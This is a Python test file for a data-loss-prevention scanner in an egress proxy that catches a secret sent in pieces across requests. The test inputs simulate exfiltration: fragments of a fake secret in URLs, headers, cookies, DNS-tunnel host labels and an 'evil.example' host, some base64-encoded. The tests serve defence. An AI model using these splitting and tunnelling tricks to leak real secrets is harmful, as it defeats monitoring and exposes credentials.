"""Secrets sent in pieces over several requests: the fragment index, the memory, the proxy seam."""

from __future__ import annotations

import base64
import json
import random
import string
import time
import unittest

from bot_bottle.sidecar.dlp import Scanner
from bot_bottle.sidecar.dlp.fragments import MIN_FRAGMENT, FragmentIndex, FragmentMemory, merge, tolerance
from bot_bottle.sidecar.egress import scanning
from bot_bottle.sidecar.egress.dlp_adapter import DlpOutbound
from bot_bottle.sidecar.egress.policy import Policy

SECRET = "Zq7tKp2WvX9mRb4LcN8yHd3FsG6jT1uE"  # 32 random-looking characters
SECRETS = {"HOST_SECRET": SECRET}


def pieces(value: str, cuts: list[int]) -> list[str]:
    edges = [0, *cuts, len(value)]
    return [value[a:b] for a, b in zip(edges, edges[1:])]


class Index(unittest.TestCase):
    def setUp(self) -> None:
        self.index = FragmentIndex([("S", SECRET)])

    def test_a_piece_is_found_wherever_it_starts(self) -> None:
        for start in range(0, len(SECRET) - MIN_FRAGMENT + 1):
            with self.subTest(start=start):
                piece = SECRET[start:start + MIN_FRAGMENT]
                found = self.index.find(f"prefix-{piece}-suffix")
                self.assertTrue(any(f.secret_start == start and f.secret_end == start + MIN_FRAGMENT for f in found),
                                found)

    def test_a_piece_shorter_than_the_minimum_is_not_counted(self) -> None:
        self.assertEqual(self.index.find(f"x {SECRET[5:5 + MIN_FRAGMENT - 1]} y"), [])

    def test_offsets_point_at_the_piece_in_the_text(self) -> None:
        text = "aaaa " + SECRET[10:22] + " bbbb"
        (found,) = self.index.find(text)
        self.assertEqual(text[found.start:found.end], SECRET[found.secret_start:found.secret_end])
        self.assertEqual((found.secret_start, found.secret_end), (10, 22))

    def test_secrets_too_short_to_split_are_left_to_whole_matches(self) -> None:
        self.assertFalse(FragmentIndex([("PIN", "12345678")]))

    def test_decoys_before_a_piece_do_not_hide_it(self) -> None:
        decoys = (SECRET[:4] + "-") * 50_000  # 250 kB of one block, each too short to count
        found = self.index.find(decoys + " " + SECRET[0:12])
        self.assertIn((0, 12), [(f.secret_start, f.secret_end) for f in found])

    def test_a_text_made_of_pieces_is_bounded_and_counts_as_the_whole_secret(self) -> None:
        index = FragmentIndex([("S", "a" * 40)])
        start = time.monotonic()
        found = index.find("a" * 200_000)
        self.assertLess(time.monotonic() - start, 10)
        self.assertIn((0, 40), [(f.secret_start, f.secret_end) for f in found])

    def test_skipped_secrets_are_not_looked_for(self) -> None:
        self.assertEqual(self.index.find("x " + SECRET[3:20], skip={"S"}), [])

    def test_repr_names_only(self) -> None:
        self.assertNotIn(SECRET, repr(self.index))


class Memory(unittest.TestCase):
    def test_merge_and_tolerance(self) -> None:
        self.assertEqual(merge([(5, 9), (0, 3), (2, 6), (12, 14)]), [(0, 9), (12, 14)])
        self.assertEqual(tolerance(16), 4)
        self.assertEqual(tolerance(200), MIN_FRAGMENT - 1)

    def test_completion_is_reported_and_never_recorded(self) -> None:
        index = FragmentIndex([("S", SECRET)])
        memory = FragmentMemory(index.lengths())
        first, second = pieces(SECRET, [16])
        self.assertEqual(memory.observe(index.find(first)), [])
        self.assertEqual(memory.sent("S"), 16)
        self.assertEqual(memory.observe(index.find(second)), ["S"])
        self.assertEqual(memory.sent("S"), 16, "the refused piece did not leave")
        self.assertEqual(memory.observe(index.find(second)), ["S"], "sent again: refused again")
        self.assertNotIn(SECRET, repr(memory))


class AcrossRequests(unittest.TestCase):
    def setUp(self) -> None:
        self.scanner = Scanner(SECRETS)
        self.memory = self.scanner.new_memory()

    def send(self, url: str, headers=(), body: bytes | None = None):
        return self.scanner.scan_request("POST", url, list(headers), body, memory=self.memory)

    def assert_split(self, findings) -> None:
        self.assertEqual([(f.secret_name, f.encoding) for f in findings], [("HOST_SECRET", "split across requests")])

    def test_two_halves_in_two_requests(self) -> None:
        a, b = pieces(SECRET, [16])
        self.assertEqual(self.send(f"http://allowed.example/m?part=1&d={a}"), [])
        self.assert_split(self.send("http://allowed.example/m?part=2", [("X-Part", b)]))

    def test_a_large_field_sent_along_does_not_push_the_pieces_out_of_reach(self) -> None:
        a, b = pieces(SECRET, [16])
        pad = "x" * (2 * 1024 * 1024)
        headers = [("content-type", "application/json")]
        self.assertEqual(self.send("http://allowed.example/log", headers, json.dumps({"log": pad, "a": a}).encode()), [])
        self.assert_split(self.send("http://allowed.example/log", [("X-Log", pad[:8000]), ("X-Part", b)],
                                    json.dumps({"log": pad}).encode()))

    def test_a_label_at_a_time_in_host_names_and_never_redacted(self) -> None:
        # A DNS tunnel under a wildcard route: one piece per request, in the host's first label.
        labels = pieces(SECRET, [10, 20])
        for label in labels[:2]:
            self.assertEqual(self.send(f"https://{label}.bucket.storage.example/x"), [])
        result = self.scanner.redact_request("GET", f"https://{labels[2]}.bucket.storage.example/x", [], b"",
                                             memory=self.memory)
        self.assert_split(result.findings)
        self.assertEqual([f.location for f in result.unredacted], ["url.host[0]"])  # a host cannot be rewritten

    def test_half_in_the_host_and_half_in_the_path(self) -> None:
        a, b = pieces(SECRET, [16])
        found = Scanner(SECRETS).scan_request("GET", f"https://{a}.evil.example/{b}")
        self.assertEqual([(f.secret_name, f.encoding, f.location) for f in found],
                         [("HOST_SECRET", "split", "url.host[0]+url.path[1]")])

    def test_pieces_in_any_order_and_channel(self) -> None:
        a, b, c, d = pieces(SECRET, [8, 16, 24])
        self.assertEqual(self.send("http://allowed.example/x", [("Cookie", f"s={c}")]), [])
        self.assertEqual(self.send("http://allowed.example/" + a), [])
        self.assertEqual(self.send("http://other.example/j", [("content-type", "application/json")],
                                   b'{"note": "see ' + d.encode() + b'"}'), [])
        self.assert_split(self.send("http://allowed.example/q?v=" + base64.b64encode(b.encode()).decode()))

    def test_shortest_piece_in_unpadded_base64url_counts(self) -> None:
        piece = SECRET[:MIN_FRAGMENT]
        encoded = base64.urlsafe_b64encode(piece.encode()).decode().rstrip("=")
        self.assertEqual(len(encoded), 11)
        self.assertEqual(self.send("http://allowed.example/?x=" + encoded), [])
        self.assertEqual(self.memory.sent("HOST_SECRET"), MIN_FRAGMENT)

    def test_a_piece_among_thousands_of_json_strings_is_found_and_redacted_in_place(self) -> None:
        a, b = pieces(SECRET, [16])
        self.assertEqual(self.send(f"http://allowed.example/?a={a}"), [])
        events = [{"name": f"event-{i}", "id": "%032x" % i, "text": "word " * 20} for i in range(1500)]
        events[977]["text"] = f"note {b} end"
        body = json.dumps({"events": events}).encode()
        headers = [("content-type", "application/json")]
        self.assert_split(self.scanner.scan_request("POST", "http://allowed.example/log", headers, body,
                                                    memory=self.memory))
        result = self.scanner.redact_request("POST", "http://allowed.example/log", headers, body, memory=self.memory)
        assert result.body is not None
        redacted = json.loads(result.body)["events"]
        self.assertNotIn(b, redacted[977]["text"])
        self.assertTrue(redacted[977]["text"].startswith("note ") and redacted[977]["text"].endswith(" end"))
        self.assertEqual(redacted[978], events[978], "the other strings are untouched")

    def test_overlapping_pieces_count_once(self) -> None:
        self.assertEqual(self.send("http://allowed.example/?a=" + SECRET[0:12]), [])
        self.assertEqual(self.send("http://allowed.example/?a=" + SECRET[4:14]), [])
        self.assertEqual(self.memory.sent("HOST_SECRET"), 14)

    def test_leaving_out_a_few_characters_does_not_help(self) -> None:
        allowed_gap = tolerance(len(SECRET))
        self.assertEqual(self.send("http://allowed.example/?a=" + SECRET[:16]), [])
        self.assert_split(self.send("http://allowed.example/?b=" + SECRET[16:len(SECRET) - allowed_gap]))

    def test_a_bigger_remainder_is_not_reported(self) -> None:
        keep = tolerance(len(SECRET)) + 1
        self.assertEqual(self.send("http://allowed.example/?a=" + SECRET[:16]), [])
        self.assertEqual(self.send("http://allowed.example/?b=" + SECRET[16:len(SECRET) - keep]), [])

    def test_pieces_shorter_than_the_minimum_are_not_seen(self) -> None:
        # The documented limit: pieces under MIN_FRAGMENT characters each are not remembered.
        for piece in pieces(SECRET, list(range(MIN_FRAGMENT - 1, len(SECRET), MIN_FRAGMENT - 1))):
            self.assertEqual(self.send("http://allowed.example/?p=" + piece), [])
        self.assertEqual(self.memory.sent("HOST_SECRET"), 0)

    def test_a_whole_secret_is_judged_alone_and_not_remembered(self) -> None:
        whole = self.send("http://allowed.example/?all=" + SECRET)
        self.assertEqual([f.encoding for f in whole], [None])
        self.assertEqual(self.memory.sent("HOST_SECRET"), 0)
        self.assertEqual(self.send("http://allowed.example/?a=" + SECRET[:16]), [])

    def test_without_a_memory_each_request_stands_alone(self) -> None:
        a, b = pieces(SECRET, [16])
        self.assertEqual(self.scanner.scan_request("GET", f"http://allowed.example/?a={a}"), [])
        self.assertEqual(self.scanner.scan_request("GET", f"http://allowed.example/?b={b}"), [])

    def test_redaction_replaces_the_completing_piece(self) -> None:
        a, b = pieces(SECRET, [16])
        self.assertEqual(self.send(f"http://allowed.example/?a={a}"), [])
        result = self.scanner.redact_request("POST", "http://allowed.example/n", [("content-type", "text/plain")],
                                             f"tail is {b} ok".encode(), memory=self.memory)
        self.assertTrue(result.findings)
        assert result.body is not None
        self.assertNotIn(b.encode(), result.body)
        self.assertIn(b"ok", result.body)

    def test_busy_benign_traffic_is_never_reported(self) -> None:
        rng = random.Random(7)
        alphabet = string.ascii_letters + string.digits
        for i in range(300):
            token = "".join(rng.choice(alphabet) for _ in range(40))
            digest = "%064x" % rng.getrandbits(256)
            body = f'{{"id": "{token}", "sha256": "{digest}", "n": {i}}}'.encode()
            found = self.send(f"http://pypi.example/simple/pkg-{i}/?h={digest[:32]}",
                              [("content-type", "application/json"), ("X-Request-Id", token)], body)
            self.assertEqual(found, [], i)


POLICY = Policy.from_dict({"version": 2, "log": 1, "routes": [{"host": "allowed.example", "ports": [443]},
                                                              {"host": "docs.example", "ports": [443]}]})


def outbound(host: str, path: str, headers=()) -> scanning.OutboundRequest:
    route = 0 if host == "allowed.example" else 1
    return scanning.OutboundRequest("GET", "https", host, 443, path, tuple(headers), b"", route_index=route,
                                    dlp={"outbound_on_match": "block"})


class ProxySeam(unittest.TestCase):
    def test_the_proxy_remembers_across_routes(self) -> None:
        dlp = DlpOutbound(POLICY, {}, SECRETS)
        a, b = pieces(SECRET, [16])
        self.assertEqual(dlp.scan(outbound("allowed.example", f"/?a={a}")).action, scanning.ALLOW)
        outcome = dlp.scan(outbound("docs.example", "/", [("X-B", b)]))
        self.assertEqual(outcome.action, scanning.BLOCK)
        self.assertIn("HOST_SECRET", outcome.reason)
        self.assertIn("split across requests", outcome.reason)
        self.assertNotIn(b, outcome.reason)

    def test_websocket_messages_share_the_memory(self) -> None:
        dlp = DlpOutbound(POLICY, {}, SECRETS)
        a, b = pieces(SECRET, [16])
        ws = outbound("allowed.example", "/ws")
        self.assertEqual(dlp.scan_message(ws, f"hello {a}".encode()).action, scanning.ALLOW)
        self.assertEqual(dlp.scan_message(ws, f"and {b}".encode()).action, scanning.BLOCK)
        redacting = scanning.OutboundRequest(**{**ws.__dict__, "dlp": {"outbound_on_match": "redact"}})
        outcome = dlp.scan_message(redacting, f"again {b}".encode())
        self.assertEqual(outcome.action, scanning.BLOCK, "a piece judged across messages cannot be redacted here")

    def test_each_proxy_has_its_own_memory(self) -> None:
        a, b = pieces(SECRET, [16])
        first, second = DlpOutbound(POLICY, {}, SECRETS), DlpOutbound(POLICY, {}, SECRETS)
        self.assertEqual(first.scan(outbound("allowed.example", f"/?a={a}")).action, scanning.ALLOW)
        self.assertEqual(second.scan(outbound("allowed.example", f"/?b={b}")).action, scanning.ALLOW)

    def test_a_route_that_does_not_look_for_secrets_keeps_no_memory(self) -> None:
        dlp = DlpOutbound(POLICY, {}, SECRETS)
        off = {"outbound_on_match": "block", "secrets": False}
        a, b = pieces(SECRET, [16])
        request = outbound("allowed.example", f"/?a={a}")
        self.assertEqual(dlp.scan(scanning.OutboundRequest(**{**request.__dict__, "dlp": off})).action,
                         scanning.ALLOW)
        self.assertEqual(dlp.scan(outbound("allowed.example", f"/?b={b}")).action, scanning.ALLOW)


if __name__ == "__main__":
    unittest.main()
